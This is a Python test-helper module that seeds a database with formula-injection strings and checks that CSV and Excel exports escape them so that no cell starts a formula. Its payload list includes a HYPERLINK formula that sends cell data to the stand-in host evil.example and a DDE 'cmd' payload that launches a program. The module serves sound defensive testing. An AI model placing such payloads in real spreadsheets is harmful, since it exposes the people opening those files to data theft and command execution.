"""Rows whose text would run as a spreadsheet formula, in every exported table, and
the checks that an exported file neutralises them (tests of exports over HTTP,
the CLI and the import round trip share them)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal
from itertools import cycle
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import JSON, Boolean, DateTime, Enum, Float, Integer, Numeric, String
from sqlalchemy.orm import Session

from aimee.store.base import Base
from aimee.store.models import (
    Alert,
    ApprovalHistory,
    Business,
    KnowledgeDocument,
    Operator,
    OperatorAssignment,
    OperatorProcessCapability,
    PlanOutcome,
    ProgressSnapshot,
    Suggestion,
)
from aimee.tabular.formulas import FORMULA_START
from tests.conftest import DEMO_NOW

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = (
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # text that itself starts with a quote before a formula character
    "=1",
    "-1",
    "@x",
)
DANGER = tuple(FORMULA_START)
HISTORY = (ApprovalHistory, Suggestion, Alert, PlanOutcome)
HISTORY_ID = 9001


def _texts() -> Iterator[str]:
    return cycle(HOSTILE)


def _value(column: Any, texts: Iterator[str]) -> Any:  # noqa: PLR0911 - one per type
    kind = column.type
    if isinstance(kind, Enum):
        return kind.enums[0]
    if isinstance(kind, String):  # Text too
        return next(text for text in texts if kind.length is None or len(text) <= kind.length)
    if isinstance(kind, JSON):
        return {"note": HYPERLINK, "moves": [-2]}
    if isinstance(kind, Integer):
        return HISTORY_ID if column.primary_key or column.foreign_keys else -2
    if isinstance(kind, Float | Numeric):
        return -2.5
    if isinstance(kind, DateTime):
        return DEMO_NOW
    if isinstance(kind, Boolean):
        return True
    raise AssertionError(f"no hostile value for {column}")


def hostile_values(model: type[Base]) -> dict[str, Any]:
    """A row of ``model`` (history tables) by column name: a hostile text in every
    text column, negative numbers in the numeric ones."""
    texts = _texts()
    return {column.name: _value(column, texts) for column in model.__table__.columns}


def add_hostile_history(session: Session) -> None:
    """One approval, suggestion, alert and outcome of ``hostile_values``."""
    for model in HISTORY:
        mapper = model.__mapper__
        values = hostile_values(model)
        session.add(
            model(
                **{
                    mapper.get_property_by_column(column).key: values[column.name]
                    for column in model.__table__.columns
                }
            )
        )
        session.flush()


def add_hostile_floor(session: Session, *, base_id: int = 0, cr: str = "\r") -> None:
    """Master tables, snapshots and know-how with hostile names that refer to
    each other as the import checks require (so they import back). ``cr``: the
    line break an xlsx file keeps (a carriage return comes back as a line feed)."""
    site, process, support = "@札幌", "+エントリ1", "-補正"
    session.add_all(
        [
            Business(business_id="=1+1", business_name=HYPERLINK),
            Business(business_id="'=1", business_name="@SUM(1+1)"),
            Operator(
                operator_id=base_id + 1,
                operator_name="+cmd|' /C calc'!A0",
                location_name=site,
                is_valid=True,
            ),
            Operator(
                operator_id=base_id + 2, operator_name="\t=1+1", location_name=site, is_valid=True
            ),
            Operator(
                operator_id=base_id + 3, operator_name="'abc", location_name=site, is_valid=False
            ),
        ]
    )
    session.flush()
    session.add_all(
        [
            OperatorProcessCapability(
                capability_id=base_id + 1,
                operator_id=base_id + 1,
                process_name=process,
                skill_level=4,
                experience_months=36,
                average_speed=Decimal("90.00"),
            ),
            OperatorProcessCapability(
                capability_id=base_id + 2,
                operator_id=base_id + 2,
                process_name=support,
                skill_level=3,
                experience_months=None,
                average_speed=Decimal("40.50"),
            ),
            OperatorAssignment(
                operator_id=base_id + 1,
                location_name=site,
                business_id="=1+1",
                process_name=process,
                since=DEMO_NOW - timedelta(hours=2),
            ),
            OperatorAssignment(
                operator_id=base_id + 2,
                location_name=site,
                business_id="'=1",
                process_name=support,
                since=DEMO_NOW - timedelta(hours=1),
            ),
            *(
                ProgressSnapshot(
                    snapshot_time=DEMO_NOW - timedelta(minutes=minutes),
                    location_name=site,
                    business_id=business,
                    process_name=name,
                    expected_completion_time=DEMO_NOW + timedelta(minutes=20),
                    total_waiting=120,
                    entry_count=500,
                    correction_waiting=4,
                )
                for minutes in (10, 5)
                for business, name in (("=1+1", process), ("'=1", support))
            ),
            KnowledgeDocument(
                title=HYPERLINK,
                content="\t=1+1",
                category="-ルール",
                source="'=出典",
                created_at=DEMO_NOW,
                updated_at=DEMO_NOW,
            ),
            KnowledgeDocument(
                title="@SUM(1+1)",
                content=f"{cr}=1+1",
                category="+事例",
                source="''@x",
                created_at=DEMO_NOW,
                updated_at=DEMO_NOW,
            ),
        ]
    )
    session.flush()


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def assert_csv_is_safe(data: bytes) -> list[list[str]]:
    """No cell of the file starts a formula (a plain number, negative too, is a
    number to every spreadsheet); returns the data rows."""
    header, *rows = csv_cells(data)
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            assert NUMBER.fullmatch(cell) or not cell.startswith(DANGER), (column, cell)
    return rows


def assert_xlsx_is_safe(data: bytes) -> list[list[Any]]:
    """No cell is a formula and no text cell starts one; numbers are numbers.
    Returns the data rows' values."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]  # not data_only: formulas show
    rows = []
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(DANGER), cell.value
        rows.append([cell.value for cell in cells])
    return rows


def escaped_texts(model: type[Base], columns: tuple[str, ...]) -> set[str]:
    """How the hostile texts of ``hostile_values`` in ``columns`` look in a file."""
    values = hostile_values(model)
    return {
        "'" + values[name]
        for name in columns
        if isinstance(values[name], str)
        and not isinstance(model.__table__.columns[name].type, Enum)
    }
